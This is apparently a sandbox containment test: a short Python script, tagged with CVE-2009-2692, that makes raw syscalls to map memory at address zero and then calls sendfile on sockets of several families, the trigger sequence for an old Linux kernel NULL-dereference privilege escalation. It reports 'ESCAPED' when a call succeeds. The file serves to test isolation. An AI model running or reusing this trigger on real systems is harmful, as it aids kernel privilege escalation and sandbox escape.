# expect: error ImportError
# idea: the door is memory at address zero, where the kernel calls what a socket does not have
# full: done
# source: CVE-2009-2692
import ctypes

libc = ctypes.CDLL(None, use_errno=True)
libc.syscall.restype = ctypes.c_long


def attempt(what, number, *arguments):
    ctypes.set_errno(0)
    wide = [ctypes.c_long(value) if isinstance(value, int) else value for value in arguments]
    got = libc.syscall(ctypes.c_long(number), *wide)
    print(f"ESCAPED: {what} gave {got}" if got >= 0 else f"{what}: errno {ctypes.get_errno()}")
    return got
attempt("mmap at zero", 9, 0, 4096, 7, 0x32, -1, 0)
for family in (4, 5, 23, 24, 31):
    made = attempt(f"a socket of family {family}", 41, family, 2, 0)
    attempt("sendfile to it", 40, made, 3, None, 4096)
